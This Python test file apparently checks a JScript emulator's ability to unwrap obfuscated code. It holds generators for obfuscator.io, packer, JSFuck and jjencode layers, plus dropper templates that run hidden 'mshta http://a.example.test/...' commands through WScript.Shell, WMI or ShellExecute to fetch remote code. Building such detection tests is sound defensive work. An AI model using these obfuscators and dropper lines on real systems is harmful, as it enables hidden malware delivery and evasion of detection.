"""What JScript hides comes back, whatever the seed: the ways of obfuscator.io, packers, JSFuck, jjencode and droppers, layer over layer."""

from __future__ import annotations

import base64
import json
import random as randoms
import re

import pytest
from evaluate.jscript.test_run import effects, run

BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="


def word(random):
    return "_0x" + "".join(random.choice("0123456789abcdef") for _ in range(random.randint(4, 6)))


def cut(random, text):
    pieces = []
    while text:
        size = random.randint(1, max(3, len(text) // 4))
        pieces, text = [*pieces, text[:size]], text[size:]
    return pieces


# Each gives statements that come first, and an expression.


def literal(random, text):
    form = random.choice((
        lambda c: f"\\x{ord(c):02x}",
        lambda c: f"\\u{ord(c):04x}",
        lambda c: f"\\{ord(c):03o}",
        lambda c: json.dumps(c)[1:-1],
    ))  # fmt: skip
    return "", '"' + "".join(map(form, text)) + '"'


def codes(random, text):
    by, n = random.randint(2, 60), word(random)
    return random.choice((
        ("", "String.fromCharCode(" + ",".join(f"{ord(c) + by}-{by}" for c in text) + ")"),
        ((f"var {n}=[{','.join(f'0x{ord(c) * by:x}' for c in text)}],{n}o='';for(var i=0;i<{n}.length;i++)" f"{n}o+=String['fromCh'+'arCode']({n}[i]/{by});"), f"{n}o"),
        (f"var {n}=[{','.join(str(ord(c) + i) for i, c in enumerate(text))}],{n}o='';for(var i in {n}){n}o+=String.fromCharCode({n}[i]-i);", f"{n}o"),
        (f"var {n}={json.dumps(''.join(chr(ord(c) ^ by % 32) for c in text))},{n}o='';for(var i=0;i<{n}.length;++i){n}o+=String.fromCharCode({n}.charCodeAt(i)^{by % 32});", f"{n}o"),
        ("", "unescape('" + "".join(random.choice((f"%{ord(c):02x}", f"%u{ord(c):04x}")) for c in text) + "')"),
    ))  # fmt: skip


def moved(random, text):
    n, mark = word(random), random.choice(("@#", "~!", "XQ"))
    return random.choice((
        ("", json.dumps(text[::-1]) + ".split('').reverse().join('')"),
        ("", json.dumps(mark.join(cut(random, text))) + f".split({json.dumps(mark)}).join('')"),
        ("", json.dumps(mark.join(cut(random, text))) + f".replace(/{mark}/g,'')"),
        (f"String.prototype.{n}=function(){{var r='';for(var i=0;i<this.length;i+=2)r+=this.charAt(i);return r}};", json.dumps("".join(c + random.choice("!.~") for c in text)) + f".{n}()"),
        ((f"function {n}(){{/*{base64.b16encode(text.encode()).decode()}*/}}var {n}t={n}.toString().match(/\\/\\*(.*)\\*\\//)[1],{n}o='';"
         f"for(var i=0;i<{n}t.length;i+=2){n}o+=String.fromCharCode(parseInt({n}t.substr(i,2),16));"), f"{n}o"),
    ))  # fmt: skip


def pieces_of_functions(random, text):
    n, pieces = word(random), cut(random, text)
    order = random.sample(range(len(pieces)), len(pieces))
    return random.choice((
        ("".join(f"function {n}{i}(){{return {json.dumps(pieces[i])}}}" for i in order), "+".join(f"{n}{i}()" for i in range(len(pieces)))),
        (f"var {n}={{}};" + "".join(f"{n}[{i}]={json.dumps(pieces[i])};" for i in order) + f"var {n}o='';for(var i=0;i<{len(pieces)};i++){n}o+={n}[i];", f"{n}o"),
        (f"var {n}s={json.dumps('|'.join(map(str, (order.index(i) for i in range(len(pieces))))))}.split('|'),{n}i=0,{n}='';while(!![]){{switch({n}s[{n}i++]){{"
         + "".join(f"case'{at}':{n}+={json.dumps(pieces[i])};continue;" for at, i in enumerate(order)) + "}break}", n),
    ))  # fmt: skip


def rotated_array(random, text):
    """obfuscator.io: an array that is turned until a sum of numbers in it fits, read through a function that replaces itself."""
    n, q, base = word(random), word(random), random.randint(0x100, 0x1FF)
    strings = [*cut(random, text), *(f"{random.randint(1, 99_999)}abcDEF" for _ in range(4))]
    places = random.sample(range(len(strings)), len(strings))
    mixed = [strings[i] for i in places]
    by = random.randint(1, len(mixed) - 1)
    numbers = [i for i, item in enumerate(mixed) if item.endswith("abcDEF")]
    total = sum(int(mixed[i][:-6]) * k for k, i in enumerate(numbers, 1))
    asked = "+".join(f"parseInt({q}({base + i:#x}))*{k}" for k, i in enumerate(numbers, 1))
    first = (
        f"function {n}(){{var a={json.dumps(mixed[-by:] + mixed[:-by])};{n}=function(){{return a}};return {n}()}}"
        f"function {q}(b,c){{var d={n}();return {q}=function(e,f){{e=e-{base:#x};var g=d[e];return g}},{q}(b,c)}}"
        f"(function(h,i){{var j=h();while(!![]){{try{{var k={asked};if(k===i)break;else j['push'](j['shift']())}}catch(l){{j['push'](j['shift']())}}}}}}({n},{total}));"
    )
    return first, "+".join(f"{q}({base + places.index(i):#x})" for i in range(len(strings) - 4))


def base64_array(random, text):
    """obfuscator.io with base64 in an alphabet of its own."""
    n, alphabet = word(random), BASE64.swapcase()
    pieces = cut(random, text)
    packed = [base64.b64encode(p.encode()).decode().translate(str.maketrans(BASE64, alphabet)).rstrip("=") for p in pieces]
    first = (
        f"var {n}a={json.dumps(packed)};function {n}(e){{e={n}a[e-0x1a0];var t='{alphabet}',n='',r='';for(var i=0,o,a,c=0;a=e['charAt'](c++);"
        "~a&&(o=i%4?o*64+a:a,i++%4)?n+=String['fromCharCode'](255&o>>(-2*i&6)):0){a=t['indexOf'](a)}"
        "for(var s=0,u=n['length'];s<u;s++){r+='%'+('00'+n['charCodeAt'](s)['toString'](16))['slice'](-2)}return decodeURIComponent(r)}"
    )
    return first, "+".join(f"{n}({0x1A0 + i:#x})" for i in range(len(pieces)))


TEXTS = (literal, codes, moved, pieces_of_functions, rotated_array, base64_array)

# ---------------------------------------------------------------- running a text


def packer(_random, code):
    """The packer of D. Edwards: words become their number in base 36."""
    words = list(dict.fromkeys(re.findall(r"\b\w+\b", code)))
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"

    def number(n):
        return (number(n // 36) if n >= 36 else "") + digits[n % 36]

    packed = re.sub(r"\b\w+\b", lambda match: number(words.index(match[0])), code)
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};"
        "if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}("
        f"{json.dumps(packed)},36,{len(words)},{json.dumps('|'.join(words))}.split('|'),0,{{}}))"
    )


def jjencode(_random, code):
    keys = ("___", "__$", "_$_", "_$$", "$__", "$_$", "$$_", "$$$")
    head = (
        '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,'
        '$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$]'
        '+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[$.$_$]+$.__+$._$+$.$;$.$$=$.$+(!""+"")[$._$$]+$.__+$._+$.$+$.$$;'
        "$.$=($.___)[$.$_][$.$_];"
    )
    return (
        head
        + '$.$($.$($.$$+"\\""+'
        + "+".join('"\\\\"+' + "+".join(f"$.{keys[int(d)]}" for d in f"{ord(c):03o}") for c in code)
        + '+"\\"")())();'
    )


def jsfuck(_random, code):
    def number(n):
        return "+[]" if not n else "+!+[]" if n == 1 else "!+[]" + "+!+[]" * (n - 1)

    letter = {c: f"(![]+[])[{number(i)}]" for i, c in enumerate("false")} | {c: f"(!![]+[])[{number(i)}]" for i, c in enumerate("true")}
    letter |= {
        "n": f"([][[]]+[])[{number(1)}]",
        "d": f"([][[]]+[])[{number(2)}]",
        "i": f"([![]]+[][[]])[{number(1)}+[+[]]]".replace("[+!+[]+", "[+!+[]+"),
    }
    spelt = "+".join(letter[c] for c in "filter")
    letter |= {"c": f"([][{spelt}]+[])[{number(3)}]", "o": f"([][{spelt}]+[])[{number(6)}]"}
    constructor = "+".join(letter[c] for c in "constructor")
    return f"[][{spelt}][{constructor}](unescape('" + "".join(f"%{ord(c):02x}" for c in code) + "'))()"


def by_eval(random, code):
    first, e = random.choice(TEXTS)(random, code)
    n = word(random)
    return first + random.choice((
        f"eval({e})",
        f"(function(){{return this}})()['ev'+'al']({e})",
        f"(0,eval)({e})",
        f"new Function({e})()",
        f"(function(){{}}).constructor({e})()",
        f"[]['filter']['constructor']({e})()",
        f"var {n}='constructor';0[{n}][{n}]({e})()",
        f"try{{throw new Error({e})}}catch({n}){{eval({n}.message)}}",
        f"var {n}={{toString:function(){{eval({e});return''}}}};''+{n}",
        f"'a'.replace(/a/,function(){{eval({e})}})",
        f"var {n}={{set v(x){{eval(x)}}}};{n}.v={e}",
        f"var {n}=0,{n}t={{0:function(){{{n}=5;return 1}},5:function(){{{n}=9;eval({e});return 0}}}};while({n}t[{n}]()){{}}",
    ))  # fmt: skip


LAYERS = (packer, jjencode, jsfuck, by_eval, by_eval, by_eval)

COMMANDS = (
    'new ActiveXObject("WScript.Shell").Run("{}",0,false)',
    'var s=WScript.CreateObject("WSc"+"ript.Shell");s["Ex"+"ec"]("{}")',
    'GetObject("winmgmts:root\\\\cimv2:Win32_Process").Create("{}",null,null,null)',
    'with(new ActiveXObject("WScript.Shell")){Run("{}")}',
    '!function(a,b,c){new a(b)[c]("{}")}(ActiveXObject,"WScript.Shell","Run")',
    'new ActiveXObject("Shell.Application").ShellExecute("{}".split(" ")[0],"{}".split(" ")[1],"","open",0)',
)


@pytest.mark.parametrize("make", TEXTS, ids=lambda make: make.__name__)
def test_texts(make):
    for seed in range(10):
        random = randoms.Random(f"{make.__name__}{seed}")
        text = random.choice(('say "INERT" twice', "http://a.example.test/x?y=1&z=%20", "INERT " * 9))
        first, expression = make(random, text)
        assert effects(run(f"{first};WScript.Echo({expression})"), "dialog") == [text], f"{first};{expression}"


@pytest.mark.parametrize("block", range(6))
def test_layers(block):
    for seed in range(40 * block, 40 * block + 40):
        random = randoms.Random(seed)
        command = f"mshta http://a.example.test/{seed}"
        code = random.choice(COMMANDS).replace("{}", command)
        for _ in range(random.randint(1, 4)):
            if len(code) > 6_000:
                break
            code = random.choice(LAYERS)(random, code)
        assert effects(run(code), "run") == [command], code
